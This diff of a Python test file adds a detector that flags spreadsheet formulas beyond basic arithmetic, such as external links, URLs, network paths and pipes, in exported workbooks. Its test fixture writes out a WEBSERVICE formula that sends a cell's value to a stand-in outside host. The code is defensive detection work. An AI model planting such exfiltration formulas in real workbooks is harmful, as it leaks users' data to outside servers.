@@ -331,10 +331,43 @@ def workbook_marks(path):
     return marks
 
 
-def test_a_workbook_of_ours_has_no_author_no_hidden_sheet_no_comment_and_no_formula(exported):
-    out = exported[2]
+def test_a_workbook_of_ours_has_no_author_no_hidden_sheet_no_comment_and_only_declared_formulas(exported):
+    exporter, _, out, _ = exported
+    declared = exporter is export_microplan
     for path in files(out, ".xlsx"):
-        assert workbook_marks(path) == []
+        marks = [mark for mark in workbook_marks(path) if not (declared and mark.startswith("formula"))]
+        assert marks == []
+        assert foreign_formulas(path) == []
+
+
+ARITHMETIC = {"ROUND", "ROUNDUP", "CEILING", "SUM", "MAX", "MIN", "IF", "IFERROR", "OR", "N"}
+
+
+def foreign_formulas(path):
+    """Return the formulas that do anything but arithmetic on cells and names of their own workbook."""
+    book = openpyxl.load_workbook(path)
+    texts = [
+        str(cell.value)
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    return [
+        text
+        for text in texts
+        if not set(re.findall(r"([A-Z][A-Z.]+)\(", text)) <= ARITHMETIC
+        or re.search(r"\[(?!@?\w+\])|://|\\\\|\|", text)
+    ]
+
+
+def test_a_formula_that_reaches_out_is_found(tmp_path):
+    book = openpyxl.Workbook()
+    book["Sheet"]["A1"] = '=WEBSERVICE("https://example.org/"&B1)'
+    book["Sheet"]["A2"] = "='[other.xlsx]Sheet'!A1"
+    book["Sheet"]["A3"] = "=SUM(B1:B3)"
+    book.save(tmp_path / "a.xlsx")
+    assert len(foreign_formulas(tmp_path / "a.xlsx")) == 2
 
 
 def test_marks_of_a_careless_workbook_are_found(tmp_path):
